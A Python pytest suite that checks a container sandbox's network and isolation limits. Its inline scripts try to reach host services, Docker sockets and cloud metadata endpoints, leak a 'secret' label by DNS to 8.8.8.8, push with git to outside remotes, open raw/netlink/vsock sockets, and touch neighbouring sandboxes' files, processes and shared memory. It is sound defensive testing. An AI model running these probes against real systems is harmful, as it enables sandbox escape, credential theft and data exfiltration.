"""Attacks on what a network could reach: services of the host, metadata, other sandboxes, the world."""

from __future__ import annotations

import os
import socket
import subprocess
from collections.abc import Callable, Iterator
from ipaddress import ip_network

import pytest

from tests.contract.inside import unique_nap
from tests.security.lair import Lair
from tests.services import Postgres, Redis

MustStop = Callable[..., None]
DENIED = ("EACCES", "EPERM")
NOWHERE = ("ENETUNREACH", "ECONNREFUSED")


@pytest.fixture
def listener() -> Iterator[int]:
    """A service of the host on its loopback, as a worker's own would be. Its port."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        yield server.getsockname()[1]


def test_reaching_redis_postgres_and_a_service_of_the_worker_on_the_host_s_loopback(
    must_stop: MustStop, postgres: Postgres, redis_server: Redis, listener: int
) -> None:
    ports = {"postgres": postgres.port, "redis": redis_server.port, "service": listener}
    for port in ports.values():
        socket.create_connection(("127.0.0.1", port), 5).close()  # they are there
    script = """
for name, port in PORTS.items():
    tried(name, lambda: reach("127.0.0.1", port))
    tried(f"{name} over IPv6", lambda: reach("::ffff:127.0.0.1", port))
"""
    must_stop(script, *NOWHERE, "EADDRNOTAVAIL", control=False, PORTS=ports)


@pytest.mark.usefixtures("only_docker")
def test_reaching_the_host_by_the_gateway_of_the_engine_s_bridge(must_stop: MustStop, listener: int) -> None:
    inspect = ["docker", "network", "inspect", "bridge", "--format", "{{(index .IPAM.Config 0).Subnet}}"]
    subnet = subprocess.run(inspect, check=True, capture_output=True, text=True).stdout.strip()
    gateway = str(next(ip_network(subnet).hosts()))
    with pytest.raises(ConnectionRefusedError):  # from outside there is a way, at whose end nobody listens
        socket.create_connection((gateway, listener), 5)
    script = """
for port in (PORT, 22, 2375, 2376):
    tried(str(port), lambda: reach(GATEWAY, port))
"""
    must_stop(script, "ENETUNREACH", control=False, GATEWAY=gateway, PORT=listener)


def test_reaching_the_engine_s_socket(must_stop: MustStop) -> None:
    script = """
if CONTROL:
    os.makedirs("/run/docker-attack")
    stage = socket.socket(socket.AF_UNIX)
    stage.bind("/run/docker-attack/docker.sock")
    stage.listen()
    os.symlink("/run/docker-attack/docker.sock", "/run/docker.sock")
for path in ("/run/docker.sock", "/var/run/docker.sock") if CONTROL else (
        "/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock"):
    tried(path, lambda: connect(path))
"""
    must_stop(script, *DENIED, "ENOENT", unless=("ENOENT",))


@pytest.mark.usefixtures("only_docker")
def test_reaching_the_metadata_service_of_a_cloud(lair: Lair, must_stop: MustStop) -> None:
    """There is no way to anywhere, so none to there: not one route exists."""
    script = """
for address in ("169.254.169.254", "169.254.170.2", "100.100.100.200", "168.63.129.16", "fd00:ec2::254"):
    tried(address, lambda: reach(address, 80))
"""
    must_stop(script, "ENETUNREACH", "EADDRNOTAVAIL", control=False)
    assert lair.run("wc -l < /proc/net/route").startswith("1\n")
    assert lair.run("ls /sys/class/net").startswith("lo\n[exit")


@pytest.mark.usefixtures("only_docker")
def test_telling_something_to_the_world_by_dns(must_stop: MustStop) -> None:
    script = """
def ask(server):
    query = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    query.connect((server, 53))
    query.send(b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\7example\\3org\\0\\0\\1\\0\\1")
    query.settimeout(0.2)
    query.recv(512)
for server in ("8.8.8.8", "192.0.2.53", "127.0.0.11", "127.0.0.53"):
    tried(server, lambda: ask(server))
tried("resolver", lambda: socket.getaddrinfo("secret.example.org", 80))
"""
    must_stop(script, *NOWHERE, "EAI_AGAIN", "[Errno -3] Temporary failure in name resolution", control=False)


@pytest.mark.usefixtures("only_docker")
def test_pushing_to_another_branch_or_another_remote(lair: Lair) -> None:
    """Inside there is a repository whose remote nobody can reach, and no password for any."""
    assert lair.run("git remote; git config --get-regexp 'credential|url|http'").startswith("[exit code 1]")
    for remote in (
        "https://github.com/x/y",
        "http://127.0.0.1:3000/x.git",
        "ssh://git@192.0.2.1/x",
        "git://192.0.2.1/x",
    ):
        said = lair.run(f"GIT_SSH_COMMAND='ssh -o ConnectTimeout=5' git push {remote} HEAD:refs/heads/main")
        assert "[exit code 128]" in said, said
        assert any(
            word in said
            for word in ("resolve", "unreachable", "refused", "Failed to connect", "Could not read", "cannot run ssh")
        ), said
    assert "[exit code 0]" in lair.run("git init -q --bare /tmp/o.git && git push -q /tmp/o.git HEAD:refs/heads/main")


def test_opening_raw_and_packet_sockets(must_stop: MustStop) -> None:
    script = """
tried("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
tried("raw IPv6", lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58))
tried("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3))
"""
    must_stop(script, *DENIED, unless=("EAFNOSUPPORT",))


def test_changing_the_network_s_interfaces(must_stop: MustStop) -> None:
    script = """
import fcntl
def answer(message):
    link = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    link.bind((0, 0))
    link.send(message)
    code = struct.unpack("=i", link.recv(4096)[16:20])[0]
    if code:
        raise OSError(-code, "netlink")
def new_link():
    kind = struct.pack("=HH", 10, 1) + b"dummy\\0\\0\\0"[:6] + b"\\0\\0"
    info = struct.pack("=HH", 4 + len(kind), 18) + kind
    body = struct.pack("=BxHiII", 0, 0, 0, 0, 0) + info
    answer(struct.pack("=IHHII", 16 + len(body), 16, 0x605, 1, 0) + body)
def raise_loopback():
    answer(struct.pack("=IHHII", 32, 16, 5, 1, 0) + struct.pack("=BxHiII", 0, 0, 1, 1, 1))
tried("a new one", new_link)
tried("set one by netlink", raise_loopback)
tried("set one by ioctl", lambda: fcntl.ioctl(socket.socket(), 0x8914, struct.pack("16sh22x", b"lo", 0x41)))
tried("an address", lambda: fcntl.ioctl(socket.socket(), 0x8916,
      struct.pack("16sHH4s16x", b"lo", 2, 0, bytes([10, 9, 8, 7]))))
"""
    must_stop(script, *DENIED, unless=("EOPNOTSUPP", "ENOTSUP", "EINVAL"))


def test_speaking_to_the_hypervisor_by_vsock(must_stop: MustStop) -> None:
    """Such sockets belong to no network namespace: with one, a container would reach its host's host."""
    script = """
def call_the_host():
    vsock = socket.socket(40, socket.SOCK_STREAM)
    vsock.close()
tried("vsock", call_the_host)
"""
    must_stop(script, "EAFNOSUPPORT", unless=("EAFNOSUPPORT",))


def test_opening_sockets_of_rare_families(must_stop: MustStop) -> None:
    """Code of the kernel that few use and many have broken."""
    script = """
for name, family, kind in (("alg", 38, 5), ("bluetooth", 31, 3), ("can", 29, 3), ("tipc", 30, 5), ("rds", 21, 5),
                           ("x25", 9, 5), ("ax25", 3, 5), ("smc", 43, 1), ("xdp", 44, 3), ("qipcrtr", 42, 2)):
    tried(name, lambda: socket.socket(family, kind))
"""
    must_stop(script, *DENIED, "EAFNOSUPPORT", "ESOCKTNOSUPPORT", control=False)


def test_reaching_another_sandbox_by_its_abstract_socket(must_stop: MustStop, neighbour: Lair) -> None:
    name = f"farhand-neighbour-{os.getpid()}"
    serve = f"import socket, time; s = socket.socket(socket.AF_UNIX); s.bind('\\0{name}'); s.listen(); time.sleep(60)"
    neighbour.run(f'python3 -c "{serve}" >/dev/null 2>&1 &')
    script = """
deadline = time.monotonic() + 10
while NAME not in open("/proc/net/unix").read() and PATIENT:
    assert time.monotonic() < deadline
tried("connect", lambda: connect("\\0" + NAME))
"""
    assert neighbour.attack(script, NAME=name, PATIENT=True) == {"connect": "done"}
    must_stop(script, "ECONNREFUSED", control=False, NAME=name, PATIENT=False)


def test_reaching_another_sandbox_s_link(must_stop: MustStop, neighbour: Lair) -> None:
    """Its path is told; to find it out is one more thing that cannot be done."""
    script = """
tried("connect", lambda: connect(THEIRS + "/link/host.sock"))
tried("list", lambda: os.listdir(THEIRS + "/link"))
tried("find", lambda: os.listdir(os.path.dirname(THEIRS)))
"""
    must_stop(script, *DENIED, "ENOENT", control=False, THEIRS=str(neighbour.path))


def test_reading_another_sandbox_s_files(must_stop: MustStop, neighbour: Lair) -> None:
    neighbour.run("echo theirs > private")
    assert "theirs" in neighbour.run("cat private")
    places = [str(neighbour.path / "work/repo/private"), "/farhand/work/repo/private"]
    script = "for place in PLACES:\n    tried(place, lambda: read(place))"
    must_stop(script, *DENIED, "ENOENT", control=False, PLACES=places)


def test_finding_and_signalling_another_sandbox_s_processes(must_stop: MustStop, neighbour: Lair) -> None:
    nap = unique_nap()
    neighbour.run(f"sleep {nap} >/dev/null 2>&1 &")
    script = """
def cmdline(pid):
    try:
        return read(f"/proc/{pid}/cmdline", 1000)
    except OSError:
        return b""
def find_and_signal():
    deadline = time.monotonic() + (10 if PATIENT else 0)
    while not (found := [pid for pid in pids() if cmdline(pid) == b"sleep\\0" + NAP.encode() + b"\\0"]):
        if time.monotonic() >= deadline:
            raise ProcessLookupError(errno.ESRCH, "none")
    os.kill(found[0], signal.SIGCONT)
tried("signal", find_and_signal)
"""
    assert neighbour.attack(script, NAP=nap, PATIENT=True) == {"signal": "done"}
    must_stop(script, "ESRCH", *DENIED, control=False, NAP=nap, PATIENT=False)


def test_meeting_another_sandbox_in_shared_memory(must_stop: MustStop, neighbour: Lair) -> None:
    make = """
tried("make", lambda: called(libc.shmget(KEY, 4096, 0o1666)))
tried("find", lambda: called(libc.shmget(KEY, 4096, 0)))
open(f"/dev/shm/{KEY}", "w").close()
"""
    key = 0x46480000 + os.getpid() % 65536
    assert neighbour.attack(make, KEY=key) == {"make": "done", "find": "done"}
    script = """
tried("System V", lambda: called(libc.shmget(KEY, 4096, 0)))
tried("POSIX", lambda: read(f"/dev/shm/{KEY}", 0))
"""
    try:
        must_stop(script, "ENOENT", control=False, KEY=key)
    finally:
        clean = "tried('remove', lambda: called(libc.shmctl(libc.shmget(KEY, 4096, 0), 0, None)))"
        neighbour.attack(clean + "\nos.unlink(f'/dev/shm/{KEY}')", KEY=key)
